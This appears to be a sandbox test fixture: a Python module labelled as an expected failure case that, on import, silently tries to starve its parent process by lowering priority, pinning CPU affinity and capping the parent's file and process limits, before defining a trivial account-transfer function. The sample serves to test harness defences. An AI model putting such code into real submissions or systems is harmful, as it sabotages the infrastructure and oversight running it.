# fail error: tries to starve others: their priority, their limits, their processors
"""`setpriority` for the whole user, `prlimit` of the parent to no more files."""

import importlib
import posix

_try = []
for _who in (0, posix.getppid()):
    _try.append(lambda who=_who: posix.setpriority(posix.PRIO_PROCESS, who, 19))
    _try.append(lambda who=_who: posix.sched_setaffinity(who, {0}))
try:
    _limits = importlib.import_module("resource")
    _parent = posix.getppid()
    _try.append(lambda: _limits.prlimit(_parent, _limits.RLIMIT_NOFILE, (3, 3)))
    _try.append(lambda: _limits.prlimit(_parent, _limits.RLIMIT_NPROC, (1, 1)))
except (ImportError, AttributeError):
    pass
for _one in _try:
    try:
        _one()
    except (OSError, ValueError):
        pass


class Account:
    def __init__(self, balance):
        self.balance = balance


def transfer(source, target, amount):
    source.balance -= amount
    target.balance += amount
    return True
